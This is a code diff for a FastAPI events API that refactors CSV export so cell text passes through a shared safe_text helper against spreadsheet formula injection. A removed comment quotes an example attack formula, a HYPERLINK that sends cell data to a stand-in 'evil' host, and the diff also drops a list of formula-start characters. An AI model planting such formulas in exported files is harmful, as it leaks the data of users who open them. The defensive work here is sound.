@@ -12,22 +12,18 @@ from fastapi import APIRouter
 from fastapi.responses import Response
 
 from app.api.events import EventsDep
+from app.domain.spreadsheet import safe_text
 from app.domain.standings import record_sheet
 
 router = APIRouter(prefix="/api/events")
 
 
-#: A spreadsheet reads a cell that starts with one of these as a formula (or, for tab
-#: and line breaks, as the start of one): `=HYPERLINK("http://evil/?"&A1,"click")`.
-FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
-
-
 def csv_cell(value: Any) -> Any:
-    """Text that a spreadsheet would run as a formula gets a leading single quote (the
-    OWASP way: shown as typed, never evaluated). Numbers the server wrote stay numbers."""
-    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
-        return "'" + value
-    return value
+    """A cell as written: numbers the server wrote stay numbers; any other value is text
+    made safe for a spreadsheet whatever separator it reads with (`safe_text`)."""
+    if value is None or isinstance(value, int | float):
+        return value
+    return safe_text(str(value))
 
 
 def csv_response(rows: list[dict[str, Any]], filename: str) -> Response:
